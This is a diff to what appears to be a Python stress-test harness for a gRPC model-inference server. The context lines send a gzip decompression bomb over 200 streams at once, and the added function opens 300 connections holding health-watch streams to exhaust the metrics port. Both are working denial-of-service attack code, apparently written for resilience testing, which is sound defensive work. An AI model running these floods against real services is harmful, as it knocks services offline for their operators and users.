@@ -4,7 +4,7 @@ import functools
 import gzip
 
 import http2_frames as h2
-from front_attack import CHECK, GZIP, MIB, MODEL_INFER, MODEL_STREAM_INFER, REFLECTION, RESTORE, SERVER_LIVE, gzip_of_nothing, varint
+from front_attack import CHECK, GZIP, MIB, MODEL_INFER, MODEL_STREAM_INFER, REFLECTION, RESTORE, SERVER_LIVE, WATCH, gzip_of_nothing, varint
 
 
 def stream_of_unread_answers(attack):
@@ -67,6 +67,15 @@ def small_bombs_at_once(attack):
     bomb = h2.message(h2.gzip_bomb(MIB), compressed=True)
     connection.send(*(h2.open_grpc(stream, CHECK, GZIP) + h2.data(stream, bomb) for stream in range(1, 401, 2)))
     connection.answer(1)
+
+
+def watches_of_the_metrics_port(attack):
+    """More watches of health than the metrics port has places for connections."""
+    for _ in range(300):
+        connection = attack.connect(attack.metrics_port)
+        connection.send(h2.open_grpc(1, WATCH), h2.data(1, h2.message(b"")))
+        connection.until(h2.HEADERS)
+    attack.wait_for_end()
 
 
 def descriptions_that_nobody_reads(attack):
